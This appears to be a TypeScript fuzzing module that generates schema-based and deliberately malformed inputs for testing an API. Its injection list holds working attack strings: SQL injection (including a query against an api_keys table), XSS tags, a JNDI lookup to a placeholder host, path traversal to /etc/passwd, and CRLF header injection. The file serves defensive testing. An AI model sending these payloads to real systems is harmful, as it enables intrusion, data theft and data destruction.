/**
 * Hostile inputs for the API fuzzer, and a generator of values from the served OpenAPI document's JSON
 * Schemas that is either faithful (so requests get past validation and reach the database) or poisoned at
 * any node with one of these.
 */
import fc from "fast-check";

export const INJECTION_STRINGS = [
  "'; DROP TABLE events; --",
  "\" OR 1=1 --",
  "1 UNION SELECT key_hash FROM api_keys",
  "') OR ('a'='a",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "{{7*7}}${7*7}",
  "${jndi:ldap://x.example/a}",
  "../../../../etc/passwd",
  "%2e%2e%2f%2e%2e%2f",
  "\u0000",
  "a\u0000b",
  "value\r\nX-Injected: yes",
  "\r\n\r\nHTTP/1.1 200 OK\r\n",
  "\uD800",
  "\uDFFF\uD800",
  "\u202Egnp.exe",
  "ｆｕｌｌｗｉｄｔｈ",
  "🦀".repeat(300),
  "null",
  "undefined",
  "NaN",
  "-0",
  "1e309",
  "9".repeat(400),
  "*",
  "%",
  "_",
  "\\",
  "__proto__",
  "constructor",
];

export const INVALID_DATES = [
  "2026-02-30T00:00:00Z",
  "2026-13-01T00:00:00Z",
  "2026-12-01T25:61:61Z",
  "0000-00-00",
  "yesterday",
  "-271821-04-20T00:00:00.000Z",
  "+275760-09-13T00:00:00.001Z",
  "1e20",
  "2026-12-01",
  "",
];

export const INVALID_CURSORS = ["evt_", "evt_zzzzzzzzzzzzzzzzzzzzzzzzzz", "dlv_01", "' OR ''='", "%FF", "0", "-1", "~".repeat(64)];

export const RAW_BODIES = [
  "",
  "{",
  "[]",
  "null",
  '"just a string"',
  "42",
  '{"a":}',
  "\uFEFF{}",
  "{\"eventType\":\"a\",\"payload\":1,}",
  "[".repeat(20_000) + "]".repeat(20_000),
  "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000),
  "not json at all",
  "eventType=a&payload=b",
];

export const CONTENT_TYPES = [
  "application/json",
  "application/json",
  "application/json",
  "APPLICATION/JSON; charset=UTF-8",
  "application/json; charset=utf-16",
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=xyz",
  "application/problem+json",
  "",
];

/** Deeply nested arrays or objects, built without recursion. */
function nested(depth: number, kind: "array" | "object"): unknown {
  let value: unknown = 1;
  for (let i = 0; i < depth; i++) value = kind === "array" ? [value] : { a: value };
  return value;
}

export const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTION_STRINGS, ...INVALID_DATES, ...INVALID_CURSORS) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.constantFrom(1_000, 70_000, 300_000).map((n) => "x".repeat(n)) },
  { weight: 1, arbitrary: fc.constantFrom(500, 20_000).map((n) => "é𝄞".repeat(n)) },
);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileString },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(null, true, false, 0, -1, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, [], {}, [null], { "": "" }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(50, 1_000, 5_000), fc.constantFrom<"array" | "object">("array", "object")).map(([d, k]) => nested(d, k)) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

const UNKNOWN_FIELDS = ["__proto__", "constructor", "projectId", "id", "isAdmin", "status", "createdAt", "x".repeat(300)];

export type Schema = Record<string, any>;
type Doc = { components?: { schemas?: Record<string, Schema> } };

/** Plausible values for well-known fields, so that faithful requests can succeed. */
function plausibleString(name: string, schema: Schema): fc.Arbitrary<string> | null {
  if (schema.format === "date-time") return fc.date({ min: new Date("2020-01-01"), max: new Date("2030-01-01"), noInvalidDate: true }).map((d) => d.toISOString());
  if (schema.format === "email") return fc.constantFrom("ops@example.com", "a.b+c@example.org");
  if (/url$/i.test(name)) return fc.constantFrom("https://hooks.example.com/in", "https://hooks.example.com/a?b=c", "http://127.0.0.1:9/x", "https://10.0.0.1/", "ftp://x.example/");
  if (name === "secret") return fc.constantFrom("whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", "whsec_", "not-a-secret");
  if (name === "eventType" || schema.pattern?.includes("a-zA-Z0-9_")) return fc.constantFrom("order.created", "user.*", "a", "invoice.paid");
  return null;
}

/**
 * An arbitrary for `schema`. With `poison`, any node may be replaced by a hostile value and any object may
 * carry unknown fields; without it the value follows the schema's types, bounds and enums.
 */
export function fromSchema(doc: Doc, schema: Schema | undefined, poison: boolean, name = "", depth = 0): fc.Arbitrary<unknown> {
  const faithful = faithfulValue(doc, schema ?? {}, poison, name, depth);
  return poison ? fc.oneof({ weight: 5, arbitrary: faithful }, { weight: 1, arbitrary: hostileValue }) : faithful;
}

function faithfulValue(doc: Doc, schema: Schema, poison: boolean, name: string, depth: number): fc.Arbitrary<unknown> {
  if (schema.$ref) return fromSchema(doc, doc.components?.schemas?.[String(schema.$ref).split("/").pop()!], poison, name, depth);
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives) return fc.oneof(...alternatives.map((s: Schema) => fromSchema(doc, s, poison, name, depth)));
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const types: string[] = Array.isArray(schema.type) ? schema.type : schema.type ? [schema.type] : [];
  if (types.length > 1) return fc.oneof(...types.map((type) => faithfulValue(doc, { ...schema, type }, poison, name, depth)));
  switch (types[0]) {
    case "null":
      return fc.constant(null);
    case "boolean":
      return fc.boolean();
    case "integer":
      return fc.integer({ min: schema.minimum ?? (schema.exclusiveMinimum ?? -1000) + (schema.exclusiveMinimum !== undefined ? 1 : 0), max: Math.min(schema.maximum ?? 1_000_000, 1_000_000) });
    case "number":
      return fc.double({ min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6, noNaN: true });
    case "string": {
      const plausible = plausibleString(name, schema);
      const free = fc.string({ minLength: schema.minLength ?? 0, maxLength: Math.min(schema.maxLength ?? 30, 30) });
      return plausible ? fc.oneof({ weight: 3, arbitrary: plausible }, { weight: 1, arbitrary: free }) : free;
    }
    case "array": {
      if (depth > 4) return fc.constant([]);
      const item = fromSchema(doc, schema.items, poison, name, depth + 1);
      return fc.array(item, { minLength: schema.minItems ?? 0, maxLength: Math.min(schema.maxItems ?? 3, 3) });
    }
    case "object": {
      if (depth > 4) return fc.constant({});
      const properties: Record<string, Schema> = schema.properties ?? {};
      const required = new Set<string>(schema.required ?? []);
      const fields = Object.fromEntries(Object.entries(properties).map(([key, sub]) => [key, fromSchema(doc, sub, poison, key, depth + 1)]));
      const base = fc.record(fields, { requiredKeys: Object.keys(fields).filter((key) => required.has(key)) }) as fc.Arbitrary<Record<string, unknown>>;
      const extra =
        typeof schema.additionalProperties === "object"
          ? fc.dictionary(fc.oneof(fc.constantFrom("X-Trace", "Authorization", "Host", "bad header", "X-\r\nInjected"), fc.string({ maxLength: 10 })), fromSchema(doc, schema.additionalProperties, poison, "header", depth + 1), { maxKeys: 3 })
          : fc.constant({});
      const unknown = poison ? fc.oneof({ weight: 4, arbitrary: fc.constant({}) }, { weight: 1, arbitrary: fc.dictionary(fc.constantFrom(...UNKNOWN_FIELDS), hostileValue, { maxKeys: 2 }) }) : fc.constant({});
      return fc.tuple(extra, base, unknown).map((parts) => ownMerge(parts));
    }
    default:
      return fc.jsonValue({ maxDepth: 3 });
  }
}

/** Merges objects key by key as own properties, so a `__proto__` key stays a field rather than a prototype. */
function ownMerge(parts: Record<string, unknown>[]): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const part of parts) for (const key of Object.keys(part)) Object.defineProperty(out, key, { value: part[key], enumerable: true, writable: true, configurable: true });
  return out;
}
